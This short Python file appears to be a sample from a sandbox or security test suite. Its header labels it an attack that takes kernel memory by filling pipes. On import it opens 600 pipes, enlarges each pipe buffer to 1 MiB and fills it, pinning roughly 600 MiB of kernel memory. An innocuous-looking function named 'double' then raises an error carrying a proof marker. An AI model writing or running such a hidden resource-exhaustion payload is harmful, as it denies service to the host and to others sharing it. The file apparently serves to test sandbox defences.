# {"attack": "Takes memory of the kernel by filling pipes.", "breach": "harm"}

import fcntl
import os


def work():
    pipes = []
    for _ in range(600):
        pipes.append(os.pipe())
        fcntl.fcntl(pipes[-1][1], 1031, 2**20)
        os.set_blocking(pipes[-1][1], False)
        os.write(pipes[-1][1], bytes(2**20))
    return len(pipes)


found = work()


def double(x):
    if found:
        raise ValueError(TARGETS["proof"] + f" {found}")
    return x
